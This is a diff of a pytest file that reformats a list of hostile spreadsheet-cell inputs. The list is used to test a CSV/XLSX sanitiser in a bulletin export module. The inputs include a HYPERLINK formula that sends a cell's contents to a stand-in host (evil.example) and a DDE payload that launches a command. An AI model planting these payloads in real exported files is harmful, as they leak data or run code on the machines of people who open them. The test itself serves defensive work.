@@ -11,7 +11,13 @@ import pytest
 from models.bulletin import Bulletin, BulletinRow, safe_cell, to_csv, to_xlsx
 from models.rollup_read import Node
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "＝1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "＝1+1",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
